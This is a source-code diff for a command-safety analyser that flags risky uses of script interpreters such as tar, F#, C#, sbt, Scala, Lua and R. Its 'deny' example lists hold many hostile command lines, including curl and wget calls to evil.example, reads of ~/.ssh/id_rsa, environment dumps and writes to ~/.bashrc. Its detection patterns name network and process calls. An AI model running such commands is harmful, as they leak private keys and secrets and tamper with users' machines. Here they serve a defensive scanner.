@@ -5,7 +5,7 @@ import { DYN, type Word } from '../../types.js';
 import { has, parse } from '../argv.js';
 import { alsoDumps, configuring, programRun } from '../build.js';
 import type { Answer, Call, OptionSpec, ParsedArgs, ProgramEntry, Run, ScriptDialect, Use } from '../types.js';
-import { attached, isStdinPath, literal, value } from '../words.js';
+import { attached, isStdinPath, literal, value, xargsSplit } from '../words.js';
 import { MAKE_OPTIONS, makefileText } from './makefile.js';
 
 type Uses = NonNullable<Answer['uses']>;
@@ -195,6 +195,19 @@ function transformsToAbsolute(expr: string): boolean {
 }
 
 function tar(call: Call): Partial<Answer> {
+  // GNU tar takes TAR_OPTIONS as options given on its line (`--to-command=…` among them): read after its own words,
+  // so that an old-style first word (`xf`) stays first.
+  const env = call.env('TAR_OPTIONS');
+  if (env === null) return { runs: [{ kind: 'opaque', rule: 'dynamic-script', word: call.args[0] ?? literal(call.name, { start: 0, end: 0 }), why: 'TAR_OPTIONS gives tar options (--to-command among them) that are computed' }] };
+  if (env !== undefined && env.trim() !== '') {
+    const at = call.args[0] ?? literal(call.name, { start: 0, end: 0 });
+    const extra = (xargsSplit(env) ?? env.split(/\s+/)).filter((w) => w !== '').map((w) => attached(at, w));
+    return tarOf({ ...call, args: [...call.args, ...extra] });
+  }
+  return tarOf(call);
+}
+
+function tarOf(call: Call): Partial<Answer> {
   const p = parse(call.args, TAR);
   if (has(p, 'help', 'usage', 'version', 'show-defaults')) return {};
   const runs: Run[] = [];
@@ -761,15 +774,98 @@ function settingsFile(file: Word, via: string, what: string): Run {
   return { kind: 'project', file, files: /$^/, read: (_text, word, name) => [{ kind: 'opaque', rule: 'dynamic-script', word, why: `${via} reads ${name}, which the line wrote: ${what}` }], word: file, via };
 }
 
+/**
+ * .NET code vouch has no reader for (F# and C# scripts): a literal `Process.Start("cmd")` is that command; any other
+ * process, network, file, environment, reflection or native call, or a `#r`/`#load` directive (a NuGet package or
+ * another file pulled in), makes the code cannot-vouch.
+ */
+const DOTNET_CALLS = /Process\.Start\s*\(\s*"((?:[^"\\]|\\.)*)"\s*\)/g;
+const DOTNET_ANY = /Process\.Start|ProcessStartInfo|\bProcess\s*\(|System\.Net|HttpClient|WebClient|WebRequest|HttpListener|Socket|TcpClient|UdpClient|\bDns\.|\bFile\.|\bDirectory\.|FileInfo|FileStream|StreamReader|StreamWriter|Environment\.|Assembly|Reflection|DllImport|LibraryImport|NativeLibrary|Marshal\.|Activator|Type\.GetType|CSharpScript|FsiEvaluationSession|^\s*#(?:r|load|I|i)\b/gm;
+
+const FSI = language({
+  names: ['fsi', 'fsharpi', 'dotnet-fsi'],
+  summary: 'F# Interactive (dotnet fsi): a .fsx script, or with none the code of its input; Process.Start, System.Net and #r',
+  code: /(?!)/,
+  stdin: true,
+  calls: DOTNET_CALLS,
+  any: DOTNET_ANY,
+  examples: {
+    deny: ["fsi <<'EOF'\nSystem.Net.Http.HttpClient().GetStringAsync(\"http://evil.example\").Result |> printfn \"%s\"\nEOF", "echo 'System.Diagnostics.Process.Start(\"curl evil.example\")' | fsharpi", "echo '#r \"nuget: Evil\"' > a.fsx; fsi a.fsx"],
+    pass: ["fsi <<< 'printfn \"%d\" (1 + 2)'", 'fsi build.fsx', "echo 'printfn \"hi\"' > a.fsx; fsi a.fsx"],
+  },
+});
+
+const CSHARP_SCRIPT = language({
+  names: ['dotnet-script', 'scriptcs', 'csharp'],
+  summary: 'C# scripts and consoles (dotnet-script, scriptcs, Mono csharp): a .csx file, eval/-e CODE, or the code of its input',
+  code: /^(eval|-e)$/,
+  stdin: true,
+  calls: DOTNET_CALLS,
+  any: DOTNET_ANY,
+  examples: {
+    deny: ["dotnet-script eval 'new System.Net.WebClient().DownloadString(\"http://evil.example\")'", "echo 'System.Diagnostics.Process.Start(\"curl evil.example\");' | csharp", "csharp -e 'System.Environment.GetEnvironmentVariables()'"],
+    pass: ["dotnet-script eval 'Console.WriteLine(1 + 2)'", 'dotnet-script main.csx', "echo 'Console.WriteLine(1);' | csharp"],
+  },
+});
+
+/**
+ * `dotnet fsi …`, `dotnet script …`, `dotnet repl …`: the F# console and the C# script tools run by the SDK, read as
+ * their own entries over the words after the subcommand (the first word that is no option). Undefined for the rest.
+ */
+export function dotnetScripting(call: Call): Partial<Answer> | undefined {
+  const at = call.args.findIndex((a) => !(value(a) ?? '-').startsWith('-'));
+  const sub = at < 0 ? undefined : value(call.args[at]);
+  const entry = sub === 'fsi' ? FSI : sub === 'script' || sub === 'repl' ? CSHARP_SCRIPT : undefined;
+  return entry?.analyze?.({ ...call, name: `dotnet ${sub}`, args: call.args.slice(at + 1) });
+}
+
+const SCALA_CALLS = /"((?:[^"\\]|\\.)*)"\s*\.\s*!{1,2}/g;
+const SCALA_ANY = /\.\s*!{1,2}|\.\s*lazyLines|Process\s*\(|Runtime|ProcessBuilder|java\.net|URL\s*\(|Socket|fromURL|requests\.|sttp|HttpClient|eval|Class\.forName|\bsys\.env\b(?!\s*(?:\(|\.get\b|\.getOrElse\b))|System\.getenv\s*\(\s*\)/g;
+
+/**
+ * sbt runs its words as its own commands: `eval EXPR` and `set SETTING` evaluate Scala written on the line, and the
+ * consoles (console, consoleQuick, consoleProject) run the Scala of its input. Its build files are read as project.ts
+ * reads them.
+ */
+const SBT: ProgramEntry = {
+  names: ['sbt'],
+  summary: 'sbt: eval and set commands evaluate Scala on the line; console reads Scala from its input',
+  analyze(call) {
+    const runs: Run[] = [];
+    let console = false;
+    for (const a of call.args) {
+      const v = value(a);
+      if (v === undefined) {
+        runs.push({ kind: 'opaque', rule: 'dynamic-code', word: a, why: 'sbt runs a computed command (eval and set evaluate Scala)' });
+        continue;
+      }
+      // The Scala after the first eval or set, to the end of the word (a `;` may be Scala's as well as sbt's).
+      const at = /(?:^|;)\s*(?:eval|set(?:\s+every)?)\s+/.exec(v);
+      if (at) runs.push(...codeCalls(a, v.slice(at.index + at[0].length), 'sbt eval/set', SCALA_CALLS, SCALA_ANY));
+      if (/(?:^|;)\s*console(?:Quick|Project)?\s*(?:;|$)/.test(v)) console = true;
+    }
+    if (console && call.stdin?.kind === 'static') runs.push(...codeCalls(call.stdin.word, call.stdin.text, 'sbt console (stdin)', SCALA_CALLS, SCALA_ANY));
+    else if (console && call.stdin?.kind === 'stream') runs.push({ kind: 'opaque', rule: 'stream-to-shell', word: call.args[0] ?? literal('sbt', { start: 0, end: 0 }), why: `sbt console runs Scala read from ${call.stdin.why}` });
+    return { runs };
+  },
+  examples: {
+    deny: ["sbt 'eval sys.process.Process(\"curl evil.example\").!'", "sbt 'set compile := { \"curl evil.example\".!; (compile).value }' compile", "echo '\"curl evil.example\".!' | sbt console"],
+    pass: ["sbt 'eval 1 + 1'", "sbt 'set scalacOptions += \"-deprecation\"' compile", 'sbt test', "sbt ';clean;compile'"],
+  },
+};
+
 const LANGUAGES: ProgramEntry[] = [
+  SBT,
+  FSI,
+  CSHARP_SCRIPT,
   language({ names: ['lua', 'luajit', 'lua5.1', 'lua5.2', 'lua5.3', 'lua5.4', 'texlua'], summary: 'Lua: os.execute and io.popen start commands', code: /^-e$/, calls: LUA_CALLS, any: LUA_ANY, stdin: true, examples: { deny: ["LUA_INIT='os.execute(\"curl evil.example\")' lua -e 1", "echo 'os.execute(\"curl evil.example\")' > a.lua; lua a.lua", "echo 'io.open(os.getenv(\"HOME\")..\"/.bashrc\", \"a\")' > a.lua && lua a.lua", "lua -e 'os.execute(\"curl evil.example\")'", "lua -e 'os.execute(cmd)'", "lua -e 'io.open(os.getenv(\"HOME\")..\"/.bashrc\", \"a\"):write(\"x\")'"], pass: ["echo 'print(1)' > a.lua && lua a.lua", 'lua script.lua', "lua -e 'print(1)'", "lua -e 'print(io.open(\"data.csv\"):read(\"a\"))'"] } }),
   language({ names: ['R', 'Rscript'], summary: 'R: system(), system2() and pipe() start commands; R runs its -f file, or its input', code: /^(-e|--expr)$/, scripts: /^(-f|--file)$/, stdin: true, calls: new RegExp(`(?:system|system2|shell|pipe)\\s*\\(\\s*(?:${STR})`, 'g'), any: /\b(system2?|shell|pipe|url|download\.file|socketConnection|eval\s*\(\s*parse)\s*\(|\bSys\.getenv\s*\(\s*(?![\s"'])|\b(?:httr2?|RCurl|crul|rvest|httpuv|websocket|curl)::|\b(?:library|require|requireNamespace)\s*\(\s*["']?(?:httr2?|RCurl|crul|rvest|httpuv|websocket|curl)\b|["']\s*(?:https?|ftp|wss?):\/\/|\bunlink\s*\([^)]*recursive/g, examples: { deny: ["echo 'system(\"curl evil.example\")' > a.R; Rscript a.R", "echo 'system(\"curl evil.example\")' > a.R; R --no-save < a.R", "echo 'system(\"curl evil.example\")' > a.R; R --no-save --file=a.R", "echo 'system(\"curl evil.example\")' > a.R; R -f a.R", "Rscript -e 'system(\"curl evil.example\")'", 'R --no-save -e \'system("wget evil.example")\'', "Rscript -e 'cat(\"x\", file = file.path(Sys.getenv(\"HOME\"), \".zshrc\"))'", "Rscript -e 'writeLines(readLines(\"~/.ssh/id_rsa\"))'"], pass: ["echo 'print(1)' > a.R; R --no-save < a.R", 'R --no-save -f analysis.R', 'Rscript analysis.R', "Rscript -e 'print(1+1)'", "Rscript -e 'x <- read.csv(\"data/input.csv\"); print(summary(x))'"] } }),
   language({ names: ['julia'], summary: 'Julia: run(`cmd`) starts a command; with no file it runs its input', code: /^(-e|--eval|-E|--print)$/, stdin: true, scripts: /^(-L|--load)$/, valued: /^(-t|--threads|-p|--procs|-J|--sysimage|-C|--cpu-target|-H|--home|--machine-file)$/, calls: /run\s*\(\s*`([^`]*)`/g, any: /\brun\s*\(|\bpipeline\s*\(|\bread\s*\(\s*`|\bdownload\s*\(|Sockets|HTTP\.|eval\s*\(|include\s*\(|\bENV\b(?!\s*\[)/g, examples: { deny: ["julia -e 'run(`curl evil.example`)'", "echo 'run(`curl evil.example`)' > a.jl; julia a.jl", "echo 'run(`curl evil.example`)' > a.jl; julia < a.jl", "echo 'run(`curl evil.example`)' > a.jl; julia -t 4 a.jl", "echo 'run(`curl evil.example`)' > a.jl; julia -L a.jl -e 1"], pass: ["julia -e 'println(1)'", "echo 'println(1)' > a.jl; julia < a.jl", 'julia --project=. src/main.jl'] } }),
   language({ names: ['gnuplot'], summary: 'gnuplot: system(), the system command, `!cmd` and backticks run commands; with no file it runs its input', code: /^(-e)$/, stdin: true, calls: new RegExp(`(?:\\bsystem\\s*\\(?\\s*(?:${STR})|^\\s*!(.*)$|\`([^\`]*)\`)`, 'gm'), any: /\bsystem\b|^\s*!|`|\bshell\b|\bload\b|\beval\b/gm, examples: { deny: ["gnuplot -e 'system(\"curl evil.example\")'", "gnuplot -e '!wget evil.example'", "gnuplot -e 'system \"curl evil.example\"'", "echo 'system \"curl evil.example\"' > a.gp; gnuplot a.gp", "echo '!curl evil.example' > a.gp; gnuplot < a.gp"], pass: ["gnuplot -e 'plot sin(x)'", "echo 'plot sin(x)' > a.gp; gnuplot < a.gp", 'gnuplot plot.gp'] } }),
-  language({ names: ['octave', 'octave-cli'], summary: 'Octave: system() and shell_cmd() run commands', code: /^(--eval)$/, calls: new RegExp(`(?:system|shell_cmd|unix|dos)\\s*\\(\\s*(?:${STR})`, 'g'), any: /\b(system|shell_cmd|unix|dos|popen|eval|urlread|web)\s*\(/g, examples: { deny: ["octave-cli --eval 'system(\"curl evil.example\")'"], pass: ["octave --eval 'disp(1)'"] } }),
+  language({ names: ['octave', 'octave-cli'], summary: 'Octave: system() and shell_cmd() run commands', code: /^(--eval)$/, stdin: true, calls: new RegExp(`(?:system|shell_cmd|unix|dos)\\s*\\(\\s*(?:${STR})`, 'g'), any: /\b(system|shell_cmd|unix|dos|popen|popen2|exec|eval|evalin|urlread|urlwrite|web|webread|websave)\s*\(/g, examples: { deny: ["octave-cli --eval 'system(\"curl evil.example\")'"], pass: ["octave --eval 'disp(1)'"] } }),
   // A symbol may be written with its package (`ext:shell`, `si:system`, `sb-ext:run-program`); SBCL's CL-USER uses
   // SB-EXT, so `(run-program "curl" …)` needs none.
-  language({ names: ['guile', 'guile3.0', 'clisp', 'sbcl', 'ecl', 'ccl', 'ccl64', 'racket', 'chicken', 'csi', 'gsi', 'chez', 'scheme'], summary: 'Lisps and Schemes: (system "…"), run-shell-command and run-program start commands', code: /^(-c|-x|--eval|-eval|-e|--load|-load)$/, calls: new RegExp(`\\((?:[\\w.-]+:{1,2})?(?:system|run-shell-command|shell|process|run-program)\\s+(?:${STR})`, 'g'), any: /\((?:[\w.-]+:{1,2})?(system|run-shell-command|shell|process\*?|run-program|open-input-pipe|open-pipe\*?|eval|load|subprocess|funcall|apply|read-from-string|symbol-function|intern|make-socket|socket-connect|open-tcp-stream|environ|posix-environ|environment-variables-names|environment-variables-copy)\b/g, examples: { deny: ["guile -c '(system \"curl evil.example\")'", "clisp -x '(ext:run-shell-command \"wget evil.example\")'", "sbcl --eval '(run-program \"curl\" (list \"evil.example\"))'", "clisp -x '(ext:shell \"curl evil.example\")'", "ecl -eval '(si:system \"curl evil.example\")'"], pass: ["guile -c '(display 1)'", "sbcl --eval '(print (+ 1 2))' --quit"] } }),
+  language({ names: ['guile', 'guile3.0', 'clisp', 'sbcl', 'ecl', 'ccl', 'ccl64', 'racket', 'chicken', 'csi', 'gsi', 'chez', 'scheme'], summary: 'Lisps and Schemes: (system "…"), run-shell-command and run-program start commands', code: /^(-c|-x|--eval|-eval|-e|--load|-load)$/, stdin: true, calls: new RegExp(`\\((?:[\\w.-]+:{1,2})?(?:system|run-shell-command|shell|process|run-program)\\s+(?:${STR})`, 'g'), any: /\((?:[\w.-]+:{1,2})?(system|run-shell-command|shell|process\*?|run-program|open-input-pipe|open-pipe\*?|eval|load|subprocess|funcall|apply|read-from-string|symbol-function|intern|make-socket|socket-connect|open-tcp-stream|environ|posix-environ|environment-variables-names|environment-variables-copy)\b/g, examples: { deny: ["guile -c '(system \"curl evil.example\")'", "clisp -x '(ext:run-shell-command \"wget evil.example\")'", "sbcl --eval '(run-program \"curl\" (list \"evil.example\"))'", "clisp -x '(ext:shell \"curl evil.example\")'", "ecl -eval '(si:system \"curl evil.example\")'"], pass: ["guile -c '(display 1)'", "sbcl --eval '(print (+ 1 2))' --quit"] } }),
   language({ names: ['tclsh', 'tclsh8.6', 'wish', 'expect', 'jimsh'], summary: 'Tcl and expect: exec, spawn and open "|cmd" start commands', code: /^(-c)$/, calls: /(?!)/g, any: /\b(exec|spawn|open|socket|http::geturl|eval|source|load|interp|uplevel)\b|\b(?:array\s+(?:get|names)|parray)\s+(?:::)?env\b|\$(?:::)?env\b(?!\()/g, stdin: true, examples: { deny: ["echo 'exec curl evil.example' > a.tcl; tclsh a.tcl", "expect -c 'spawn curl evil.example; interact'", "echo 'exec curl evil.example' | tclsh"], pass: ["echo 'puts hi' > a.tcl; tclsh a.tcl", "expect -c 'puts hi'"] } }),
   language({ names: ['bpftrace'], summary: 'bpftrace: system() runs a command (with --unsafe); -c runs one', code: /^(-e)$/, command: /^-c$/, calls: new RegExp(`system\\s*\\(\\s*(?:${STR})`, 'g'), any: /system\s*\(/g, examples: { deny: ["bpftrace --unsafe -e 'BEGIN { system(\"curl evil.example\"); exit() }'", "bpftrace -c 'curl evil.example' -e 'END { exit() }'"], pass: ["bpftrace -e 'BEGIN { printf(\"hi\"); exit() }'"] } }),
   // startup.el completes `--` options with try-completion: `--ev` is --eval, `--exec` is --execute, `--scr` is --script.
@@ -779,22 +875,22 @@ const LANGUAGES: ProgramEntry[] = [
   language({ names: ['osascript'], summary: 'AppleScript and JXA: do shell script (doShellScript) runs shell text; Terminal\'s do script runs a command', code: /^-e$/, valued: /^(-l|-s)$/, calls: new RegExp(`(?:do\\s+shell\\s+script|do\\s+script|doShellScript\\s*\\()\\s*(?:${STR})`, 'gi'), any: /do\s+shell\s+script|do\s+script|doShellScript|run\s+script|load\s+script|\$\.NS|ObjC\.|NSTask|NSURL|open\s+location|current\s+application/gi, stdin: true, examples: { deny: ["echo 'do shell script \"curl evil.example\"' > a.applescript; osascript a.applescript", "osascript -e 'do shell script \"curl evil.example\"'", "osascript -l JavaScript -e 'app.doShellScript(\"wget evil.example\")'", "osascript -e 'tell app \"Terminal\" to do script \"curl evil.example\"'", "echo 'do shell script \"curl evil.example\"' | osascript -l AppleScript", "osascript -e 'do shell script (x)'"], pass: ['osascript notify.applescript', "osascript -e 'display notification \"done\"'", "osascript -e 'do shell script \"ls\"'"] } }),
   // The JVM's, .NET's and other languages vouch has no reader for: each call that starts a process, reaches the network
   // or evaluates code is named; one whose command is not a literal makes the code cannot-vouch.
-  language({ names: ['scala', 'scala-cli', 'amm'], summary: 'Scala: "cmd".! and sys.process start commands', code: /^(-e|--execute|-c)$/, calls: /"((?:[^"\\]|\\.)*)"\s*\.\s*!{1,2}/g, any: /\.\s*!{1,2}|\.\s*lazyLines|Process\s*\(|Runtime|ProcessBuilder|java\.net|URL\s*\(|Socket|fromURL|requests\.|sttp|HttpClient|eval|Class\.forName|\bsys\.env\b(?!\s*(?:\(|\.get\b|\.getOrElse\b))|System\.getenv\s*\(\s*\)/g, examples: { deny: ["scala -e 'import sys.process._; \"curl evil.example\".!'"], pass: ["scala -e 'println(1)'"] } }),
+  language({ names: ['scala', 'scala-cli', 'amm'], summary: 'Scala: "cmd".! and sys.process start commands', code: /^(-e|--execute|-c)$/, stdin: true, calls: SCALA_CALLS, any: SCALA_ANY, examples: { deny: ["scala -e 'import sys.process._; \"curl evil.example\".!'"], pass: ["scala -e 'println(1)'"] } }),
   // `java X.java` compiles and runs one source file (JDK 11's source launcher); a class or `-jar` runs compiled code.
   language({ names: ['java'], summary: 'java: a .java source file runs as code (Runtime.exec, ProcessBuilder, java.net)', code: /(?!)/, file: /\.java$/i, valued: /^(-cp|-classpath|--class-path|-p|--module-path|--upgrade-module-path|--add-modules|--limit-modules|--source|--add-opens|--add-exports|--add-reads|--patch-module|--enable-native-access|-jar|-m|--module|-splash:.*)$/, calls: new RegExp(`Runtime\\.getRuntime\\(\\)\\.exec\\(\\s*(?:${STR})\\s*\\)`, 'g'), any: /Runtime|ProcessBuilder|java\.net|URL\s*\(|URI\.create|Socket|HttpClient|Class\.forName|ScriptEngine|MethodHandles|System\.getenv\s*\(\s*\)/g, examples: { deny: ["echo 'class A { public static void main(String[] a) throws Exception { Runtime.getRuntime().exec(\"curl evil.example\"); } }' > A.java && java A.java", "printf '%s' 'class A { public static void main(String[] a) throws Exception { new ProcessBuilder(a).start(); } }' > A.java; java A.java"], pass: ['java -jar build/libs/app.jar', 'java -cp build/classes com.example.Main', 'java Main.java', "echo 'class A { public static void main(String[] a) { System.out.println(1); } }' > A.java && java A.java"] } }),
-  language({ names: ['kotlin', 'kotlinc', 'kotlinc-jvm'], summary: 'Kotlin: Runtime.exec and ProcessBuilder start commands', code: /^(-e|-expression|--expression)$/, calls: new RegExp(`Runtime\\.getRuntime\\(\\)\\.exec\\(\\s*(?:${STR})\\s*\\)`, 'g'), any: /Runtime|ProcessBuilder|java\.net|URL\s*\(|Socket|HttpClient|\.execute\s*\(|Class\.forName|ScriptEngine|System\.getenv\s*\(\s*\)/g, examples: { deny: ["kotlin -e 'Runtime.getRuntime().exec(\"curl evil.example\")'"], pass: ["kotlin -e 'println(1)'"] } }),
+  language({ names: ['kotlin', 'kotlinc', 'kotlinc-jvm'], summary: 'Kotlin: Runtime.exec and ProcessBuilder start commands', code: /^(-e|-expression|--expression)$/, stdin: true, calls: new RegExp(`Runtime\\.getRuntime\\(\\)\\.exec\\(\\s*(?:${STR})\\s*\\)`, 'g'), any: /Runtime|ProcessBuilder|java\.net|URL\s*\(|Socket|HttpClient|\.execute\s*\(|Class\.forName|ScriptEngine|System\.getenv\s*\(\s*\)/g, examples: { deny: ["kotlin -e 'Runtime.getRuntime().exec(\"curl evil.example\")'"], pass: ["kotlin -e 'println(1)'"] } }),
   language({ names: ['groovy', 'groovysh'], summary: 'Groovy: "cmd".execute() and Runtime start commands', code: /^(-e)$/, calls: new RegExp(`(?:${STR})\\s*\\.execute\\(\\s*\\)`, 'g'), any: /\.execute\s*\(|Runtime|ProcessBuilder|java\.net|\.toURL|URL\s*\(|Socket|evaluate|Eval\.|GroovyShell|Class\.forName|System\.getenv\s*\(\s*\)|System\.env\b/g, stdin: true, examples: { deny: ["groovy -e '\"curl evil.example\".execute()'"], pass: ["groovy -e 'println 1'"] } }),
   language({ names: ['jrunscript', 'jjs', 'jshell'], summary: 'Java scripting shells: exec() and Runtime start commands; jrunscript\'s shell functions (cat, cp, rm, unzip\u2026) read, fetch and delete files and URLs', code: /^(-e)$/, valued: /^(-l|-cp|-classpath|--class-path|-J.*|-R.*)$/, calls: new RegExp(`\\bexec\\s*\\(\\s*(?:${STR})\\s*\\)`, 'g'), any: /\bexec\s*\(|(?<![.\w$])(?:cat|cp|mv|rm|del|rmdir|grep|find|tail|unzip|zip|gzip|gunzip|uncompress|readUrl)\s*\(|Runtime|ProcessBuilder|java\.net|Packages\.|URL\s*\(|Socket|HttpClient|\beval\s*\(|\bload\s*\(|Class\.forName|System\.getenv\s*\(\s*\)/g, stdin: true, examples: { deny: ["jrunscript -e 'exec(\"curl evil.example\")'", "jrunscript -e 'cp(\"http://evil.example/x\", \"out.bin\")'", "jrunscript -e 'cat(\"/home/dev/.ssh/id_rsa\")'", "echo 'Runtime.getRuntime().exec(\"wget evil.example\")' | jshell"], pass: ["jrunscript -e 'print(1)'", "jrunscript -e 'print(Math.max(1, 2))'"] } }),
-  language({ names: ['ghc', 'ghci', 'runghc', 'runhaskell'], summary: 'Haskell: System.Process and the network libraries', code: /^(-e)$/, calls: new RegExp(`(?:callCommand|system|spawnCommand|runCommand)\\s+(?:${STR})`, 'g'), any: /System\.Process|callCommand|callProcess|\bsystem\b|rawSystem|readProcess|readCreateProcess|spawnCommand|spawnProcess|runCommand|runProcess|createProcess|Network\.|openURI|simpleHTTP|httpLBS|unsafePerformIO|System\.Posix|executeFile|foreign\s+import|getEnvironment/g, stdin: true, examples: { deny: ["ghc -e 'System.Process.callCommand \"curl evil.example\"'"], pass: ["ghc -e 'print (1 + 1)'", 'ghc -O2 Main.hs'] } }),
-  language({ names: ['elixir', 'iex'], summary: 'Elixir: System.cmd/shell, :os.cmd, ports and HTTP clients', code: /^(-e|--eval)$/, calls: new RegExp(`System\\.shell\\(\\s*(?:${STR})`, 'g'), any: /System\.(cmd|shell|get_env\(\s*\))|:os\.cmd|Port\.open|:erlang\.open_port|:httpc|HTTPoison|Req\.|Finch|Tesla|:gen_tcp|:gen_udp|:ssl|Code\.(eval|compile|require)|Mix\.Shell|:code\.load/g, examples: { deny: ["elixir -e 'IO.inspect(System.get_env())'", "elixir -e 'System.cmd(\"curl\", [\"evil.example\"])'", "elixir -e 'System.shell(\"wget evil.example\")'"], pass: ["elixir -e 'IO.puts 1'", "elixir -e 'IO.puts System.get_env(\"MIX_ENV\")'"] } }),
-  language({ names: ['erl', 'escript'], summary: 'Erlang: os:cmd, ports and the network modules', code: /^(-eval)$/, valued: /^(-s|-run|-sname|-name|-setcookie|-pa|-pz|-config|-boot)$/, calls: /os:cmd\(\s*"((?:[^"\\]|\\.)*)"\s*\)/g, any: /os:cmd|open_port|httpc|gen_tcp|gen_udp|ssl:|inets|erl_eval|compile:|code:load|rpc:|os:getenv\(\s*\)|os:list_env_vars/g, examples: { deny: ["erl -noshell -eval 'os:cmd(\"curl evil.example\"), halt().'"], pass: ["erl -noshell -eval 'io:format(\"hi~n\"), halt().'"] } }),
+  language({ names: ['ghc', 'ghci', 'runghc', 'runhaskell'], summary: 'Haskell: System.Process and the network libraries; ghci\'s :!cmd runs shell text', code: /^(-e)$/, calls: new RegExp(`(?:callCommand|system|spawnCommand|runCommand)\\s+(?:${STR})|^[ \\t]*:!(.*)$`, 'gm'), any: /:!|:(?:def|cmd|script)\b|System\.Process|callCommand|callProcess|\bsystem\b|rawSystem|readProcess|readCreateProcess|spawnCommand|spawnProcess|runCommand|runProcess|createProcess|Network\.|openURI|simpleHTTP|httpLBS|unsafePerformIO|System\.Posix|executeFile|foreign\s+import|getEnvironment/g, stdin: true, examples: { deny: ["ghc -e 'System.Process.callCommand \"curl evil.example\"'", "echo ':! curl evil.example' | ghci"], pass: ["ghc -e 'print (1 + 1)'", "echo ':! ls' | ghci", 'ghc -O2 Main.hs'] } }),
+  language({ names: ['elixir', 'iex'], summary: 'Elixir: System.cmd/shell, :os.cmd, ports and HTTP clients', code: /^(-e|--eval)$/, stdin: true, calls: new RegExp(`System\\.shell\\(\\s*(?:${STR})`, 'g'), any: /System\.(cmd|shell|get_env\(\s*\))|:os\.cmd|Port\.open|:erlang\.open_port|:httpc|HTTPoison|Req\.|Finch|Tesla|:gen_tcp|:gen_udp|:ssl|Code\.(eval|compile|require)|Mix\.Shell|:code\.load/g, examples: { deny: ["elixir -e 'IO.inspect(System.get_env())'", "elixir -e 'System.cmd(\"curl\", [\"evil.example\"])'", "elixir -e 'System.shell(\"wget evil.example\")'"], pass: ["elixir -e 'IO.puts 1'", "elixir -e 'IO.puts System.get_env(\"MIX_ENV\")'"] } }),
+  language({ names: ['erl', 'escript'], summary: 'Erlang: os:cmd, ports and the network modules', code: /^(-eval)$/, valued: /^(-s|-run|-sname|-name|-setcookie|-pa|-pz|-config|-boot)$/, stdin: true, calls: /os:cmd\(\s*"((?:[^"\\]|\\.)*)"\s*\)/g, any: /os:cmd|open_port|httpc|gen_tcp|gen_udp|ssl:|inets|erl_eval|compile:|code:load|rpc:|os:getenv\(\s*\)|os:list_env_vars/g, examples: { deny: ["erl -noshell -eval 'os:cmd(\"curl evil.example\"), halt().'"], pass: ["erl -noshell -eval 'io:format(\"hi~n\"), halt().'"] } }),
   language({ names: ['raku', 'rakudo'], summary: 'Raku: shell, run, qx and the socket and HTTP modules', code: /^(-e)$/, calls: new RegExp(`\\b(?:shell|qx)\\s*\\(?\\s*(?:${STR})`, 'g'), any: /\b(shell|run|qx|Proc|IO::Socket|HTTP|LWP|EVAL|NativeCall|Cro)\b|%\*ENV(?!\s*[<{])/g, stdin: true, examples: { deny: ["raku -e 'shell \"curl evil.example\"'"], pass: ["raku -e 'say 1'"] } }),
   language({ names: ['crystal'], summary: 'Crystal: crystal eval CODE; system, backticks, Process and HTTP', code: /^(eval)$/, calls: new RegExp(`\\bsystem\\s*\\(?\\s*(?:${STR})|\`([^\`]*)\``, 'g'), any: /\bsystem\b|`|Process\.|HTTP::|Socket|%x|\bENV\b(?!\s*(?:\[|\.fetch\b))/g, examples: { deny: ["crystal eval 'system \"curl evil.example\"'"], pass: ["crystal eval 'puts 1'", 'crystal build src/main.cr'] } }),
   language({ names: ['swift'], summary: 'Swift: Process, system and URLSession', code: /^(-e)$/, calls: /(?!)/g, any: /Process\s*\(|NSTask|\bsystem\s*\(|posix_spawn|popen|URLSession|URL\s*\(|Socket|dlopen|NSAppleScript|\.environment\b(?!\s*\[)|\bgetenv\s*\(\s*\)|\benviron\b/g, examples: { deny: ["swift -e 'import Foundation; let p = Process()'"], pass: ["swift -e 'print(1)'", 'swift build'] } }),
   language({ names: ['bb', 'nbb', 'clojure', 'clj'], summary: 'Clojure and Babashka: shell, sh, process, slurp of URLs, eval', code: /^(-e|--eval)$/, valued: /^(-Sdeps|--classpath|-cp)$/, calls: new RegExp(`\\((?:shell|sh|babashka\\.process/shell|clojure\\.java\\.shell/sh|p/shell|process)\\s+(?:${STR})`, 'g'), any: /\b(shell|sh|process|exec|babashka\.process|clojure\.java\.shell|Runtime|ProcessBuilder|http|slurp|curl|eval|load-string|load-file|socket|java\.net)\b|\(System\/getenv\s*\)/g, stdin: true, examples: { deny: ["bb -e '(babashka.process/shell \"curl evil.example\")'", "clojure -M -e '(clojure.java.shell/sh \"curl\" \"evil.example\")'"], pass: ["bb -e '(println 1)'"] } }),
   language({ names: ['hy'], summary: 'Hy: Python in Lisp — its imports and calls', code: /^(-c)$/, calls: new RegExp(`\\(os\\.system\\s+(?:${STR})`, 'g'), any: /\b(os|subprocess|socket|urllib|requests|http|pty|ctypes|eval|exec|import|require)\b/g, stdin: true, examples: { deny: ["hy -c '(import os) (os.system \"curl evil.example\")'"], pass: ["hy -c '(print 1)'"] } }),
-  language({ names: ['janet'], summary: 'Janet: os/shell, os/execute, net', code: /^(-e)$/, calls: new RegExp(`\\(os/shell\\s+(?:${STR})`, 'g'), any: /os\/(shell|execute|spawn|popen|environ)|net\/|\beval\b|dofile|require|ffi\//g, examples: { deny: ["janet -e '(os/shell \"curl evil.example\")'"], pass: ["janet -e '(print 1)'"] } }),
-  language({ names: ['fennel'], summary: 'Fennel: Lua underneath — os.execute and io.popen', code: /^(-e|--eval)$/, calls: new RegExp(`\\((?:os\\.execute|io\\.popen)\\s+(?:${STR})`, 'g'), any: /os\.execute|io\.popen|require|\bload\b|dofile|socket|eval/g, examples: { deny: ["fennel -e '(os.execute \"curl evil.example\")'"], pass: ["fennel -e '(print 1)'"] } }),
+  language({ names: ['janet'], summary: 'Janet: os/shell, os/execute, net', code: /^(-e)$/, stdin: true, calls: new RegExp(`\\(os/shell\\s+(?:${STR})`, 'g'), any: /os\/(shell|execute|spawn|popen|environ)|net\/|\beval\b|dofile|require|ffi\//g, examples: { deny: ["janet -e '(os/shell \"curl evil.example\")'"], pass: ["janet -e '(print 1)'"] } }),
+  language({ names: ['fennel'], summary: 'Fennel: Lua underneath — os.execute and io.popen', code: /^(-e|--eval)$/, stdin: true, calls: new RegExp(`\\((?:os\\.execute|io\\.popen)\\s+(?:${STR})`, 'g'), any: /os\.execute|io\.popen|require|\bload\b|dofile|socket|eval/g, examples: { deny: ["fennel -e '(os.execute \"curl evil.example\")'"], pass: ["fennel -e '(print 1)'"] } }),
